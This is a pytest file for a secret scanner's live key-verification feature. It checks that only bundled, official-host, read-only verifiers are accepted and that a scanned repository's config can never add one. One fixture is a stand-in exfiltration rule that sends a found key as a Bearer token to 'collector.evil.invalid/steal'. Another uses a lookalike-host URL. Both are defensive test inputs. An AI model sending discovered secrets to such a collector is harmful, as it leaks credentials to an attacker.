"""Verifier specs (issue 25): data in the bundled rule files, validated by the loader, reviewed
by `rules --check`, and never taken from a scanned repository's config."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest

from scanner.errors import RuleError, UsageError
from scanner.rules import RULES_DIR, load_file, load_rules, load_verifiers
from scanner.rules.check import load_checked, review_verifiers
from scanner.rules.verifiers import OFFICIAL_HOSTS, parse_verify, review
from scanner.suppress.settings import load_config
from tests.paths import ROOT

# the providers issue 25 names, by one rule each: every one has a verifier
REQUIRED = {
    "openai.project-key", "anthropic.api-key", "google.api-key", "mistral.api-key", "groq.api-key",
    "xai.api-key", "deepseek.api-key", "together.api-key", "openrouter.api-key",
    "huggingface.user-token", "github.pat", "stripe.secret-key", "aws.access-key-id",
}  # fmt: skip


def good() -> dict[str, Any]:
    return {
        "method": "GET",
        "url": "https://api.openai.com/v1/models",
        "headers": {"Authorization": "Bearer {secret}"},
        "live": {"status": 200, "fields": ["data"]},
        "revoked": {"status": 401},
        "why": "a read",
        "docs": "https://platform.openai.com/docs/api-reference/models/list",
    }


def test_every_named_provider_has_a_reviewed_bundled_verifier() -> None:
    specs = load_verifiers()
    assert set(specs) >= REQUIRED
    for rule_id, spec in specs.items():
        provider = rule_id.split(".")[0]
        assert review(spec, provider) == [], rule_id
        assert spec.host in OFFICIAL_HOSTS[provider]
        assert spec.method in ("GET", "HEAD") or spec.signer == "aws-sigv4"
        assert "{" not in spec.url and spec.url.startswith("https://")
        assert spec.why and spec.docs.startswith("https://")


def test_relay_and_lone_halves_have_no_verifier() -> None:
    """A key of a relay (its host comes from the scanned code) and a secret access key without
    its key ID are never checked: no bundled verifier names them."""
    specs = load_verifiers()
    assert "openai.compatible-key" not in specs
    assert "aws.secret-access-key" not in specs


def test_loading_rules_strips_the_block_and_keeps_the_ruleset() -> None:
    """The rules themselves are unchanged by a verify block (same fields, same ids)."""
    rules = {r.id: r for r in load_rules()}
    assert set(load_verifiers()) <= set(rules)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"url": "http://api.openai.com/v1/models"}, "https"),
        ({"url": "https://api.openai.com/v1/models?key={secret}"}, "placeholder"),
        ({"url": "https://{secret}@api.openai.com/v1/models"}, "placeholder"),
        ({"url": "https://user@api.openai.com/v1/models"}, "plain host"),
        ({"url": "https://api.openai.com:8443/v1/models"}, "plain host"),
        ({"method": "DELETE"}, "method"),
        ({"method": "POST"}, "POST only for a signed call"),
        ({"headers": {"Authorization": "Bearer"}}, "in a header"),
        ({"headers": {"Host": "{secret}"}}, "cannot be set"),
        ({"headers": {"Authorization": "Bearer {secret} {base_url}"}}, "only placeholder"),
        ({"body": "x"}, "only for POST"),
        ({"live": {"status": 999}}, "status"),
        ({"live": []}, "live"),
        ({"unknown": [{"status": 403}]}, "reason"),
        ({"why": ""}, "why"),
        ({"docs": "http://example.invalid"}, "docs"),
        ({"rate": 0}, "rate"),
        ({"target": "https://elsewhere.invalid"}, "unknown keys"),
    ],
)
def test_loader_rejects_unsafe_or_malformed_blocks(change: dict[str, Any], message: str) -> None:
    raw = {**good(), **change}
    with pytest.raises(RuleError, match=message):
        parse_verify(raw, "x.yml rule 'openai.project-key'")


def test_review_holds_hosts_methods_and_queries() -> None:
    spec = parse_verify(good(), "x")
    assert review(spec, "openai") == []
    assert "not an official API host" in review(spec, "mistral")[0]
    assert "not an official API host" in review(spec, "acme")[0]  # no host listed: never
    elsewhere = parse_verify({**good(), "url": "https://api.openai.com.evil.invalid/v1"}, "x")
    assert review(elsewhere, "openai")
    query = parse_verify({**good(), "url": "https://api.openai.com/v1/models?api_key=1"}, "x")
    assert any("query" in p for p in review(query, "openai"))
    signed = {**good(), "method": "POST", "signer": "aws-sigv4", "headers": {}, "body": "Action=X"}
    post = parse_verify({**signed, "url": "https://api.openai.com/v1/files"}, "x")
    assert any("POST" in p for p in review(post, "openai"))


def _rule_file(tmp_path: Path, name: str, block: dict[str, Any] | None) -> Path:
    import yaml

    doc = yaml.safe_load((RULES_DIR / "mistral.yml").read_text())
    rule = copy.deepcopy(doc["rules"][0])
    rule["id"] = "acme.api-key"
    rule.pop("verify", None)
    if block is not None:
        rule["verify"] = block
    path = tmp_path / name
    path.write_text(yaml.safe_dump({"provider": "acme", "rules": [rule]}))
    return path


def test_rules_check_refuses_a_verifier_outside_the_bundled_rules(tmp_path: Path) -> None:
    builtin = load_rules()
    plain = _rule_file(tmp_path, "plain.yml", None)
    assert [r.id for r in load_checked(plain, builtin)] == ["acme.api-key"]
    carrying = _rule_file(tmp_path, "carrying.yml", good())
    with pytest.raises(RuleError, match="honoured only in keysweep's bundled rules"):
        load_checked(carrying, builtin)
    assert [r.id for r in load_file(carrying)] == ["acme.api-key"]  # loads; never used
    assert "acme.api-key" not in load_verifiers()


def test_review_of_a_bundled_file_lists_every_problem() -> None:
    rule = next(r for r in load_rules() if r.id == "mistral.api-key")
    bad = parse_verify({**good(), "url": "https://api.openai.com/v1/models?token=1"}, "x")
    with pytest.raises(RuleError) as e:
        review_verifiers("mistral.yml", [(rule, bad)], bundled=True)
    assert "official API host of mistral" in str(e.value) and "query" in str(e.value)


def test_a_config_rule_can_never_carry_a_verifier(tmp_path: Path) -> None:
    """A scanned repository's `.keysweep.toml` cannot add one: the key is refused by name."""
    config = tmp_path / ".keysweep.toml"
    config.write_text(
        "[[rules]]\n"
        'provider = "acme"\nid = "acme.api-key"\nname = "Acme key"\n'
        "pattern = '(?P<secret>acme_[a-z0-9]{32})'\nmax_length = 37\nkeywords = [\"acme_\"]\n"
        'severity = "high"\nconfidence = "high"\nexamples = ["acme_{lower:32}"]\n'
        "[rules.verify]\n"
        'method = "GET"\nurl = "https://collector.evil.invalid/steal"\n'
        'headers = { Authorization = "Bearer {secret}" }\n'
    )
    with pytest.raises(UsageError, match="'verify' is read only from keysweep's bundled rules"):
        load_config(config, load_rules())
    # nor can it change a bundled one: its ids are its own (a taken id is refused)
    config.write_text(
        config.read_text().split("[rules.verify]")[0].replace("acme.api-key", "openai.project-key")
    )
    with pytest.raises(UsageError):
        load_config(config, load_rules())


def test_readme_table_shows_every_verifier_request() -> None:
    """The README's verification table names each verifier's exact request and its rules."""
    readme = (ROOT / "README.md").read_text()
    section = readme.split("### Live verification", 1)[1].split("\n## ", 1)[0]
    rows = [line for line in section.splitlines() if line.startswith("| `")]
    for rule_id, spec in load_verifiers().items():
        row = next((r for r in rows if f"`{rule_id}`" in r), "")
        assert f"`{spec.method} {spec.url}`" in row, rule_id
        assert spec.why in row and spec.docs in row, rule_id


def test_no_http_client_is_loaded_until_a_request_is_made() -> None:
    """Scans without verification never pay for httpx: the rules and the runner import without it."""
    import subprocess
    import sys

    code = "import sys, scanner.rules, scanner.verify; scanner.rules.load_rules(); assert 'httpx' not in sys.modules"
    subprocess.run([sys.executable, "-c", code], check=True)


def test_rules_check_of_a_bundled_file_honours_its_verifier() -> None:
    """`rules --check scanner/rules/mistral.yml` (a bundled file carrying `verify`) is reviewed as
    bundled: the check knows the bundled folder wherever its own module lives."""
    builtin = load_rules()
    assert [r.id for r in load_checked(RULES_DIR / "mistral.yml", builtin)] == ["mistral.api-key"]
